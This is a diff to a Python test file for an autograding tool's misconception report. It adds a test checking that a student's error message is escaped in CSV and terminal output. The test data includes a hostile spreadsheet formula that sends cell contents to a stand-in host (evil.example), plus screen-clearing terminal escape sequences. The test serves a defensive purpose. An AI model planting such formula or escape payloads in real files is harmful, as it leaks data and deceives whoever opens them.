@@ -14,7 +14,8 @@ import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
 from nbgrader.api import Gradebook
 
-from collective_lib.autograde.misconceptions import failures_by_cause, failures_csv, main
+from collective_lib.autograde.misconceptions import (failures_by_cause, failures_csv,
+                                                     failures_text, main)
 from collective_lib.autograde.verdict import FAILURE_METADATA
 
 # nbgrader warns when submissions are added to a gradebook that was read before
@@ -88,6 +89,22 @@ def test_the_text_and_the_csv_say_the_same(graded_class, capsys):
         ("unrecorded", "1", "0.2", "eve")]
     assert rows[0]["submissions"] == "5" and rows[0]["failed"] == "4"
     assert failures_csv("ps1", failures_by_cause("ps1", graded_class)) == out.read_text()
+
+
+def test_a_students_message_is_text_in_the_spreadsheet_and_the_terminal(course):
+    # the example of a cause is what the student's code raised: in the CSV no formula, in
+    # the text no escape sequence that erases the instructor's screen
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        gb.add_student("mal")
+        gb.add_submission("ps1", "mal")
+    folder = course / "autograded" / "mal" / "ps1"
+    folder.mkdir(parents=True)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1)\x1b[2J\x1b]0;owned\x07'
+    nbformat.write(_autograded("wrong_result", hostile), folder / "ps1.ipynb")
+    cells = failures_by_cause("ps1", course)
+    [row] = list(csv.DictReader(io.StringIO(failures_csv("ps1", cells))))
+    assert row["example"] == "'" + hostile.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
+    assert not any(c in failures_text("ps1", cells) for c in "\x1b\x07")
 
 
 def test_a_cell_nobody_failed_has_no_causes(course):
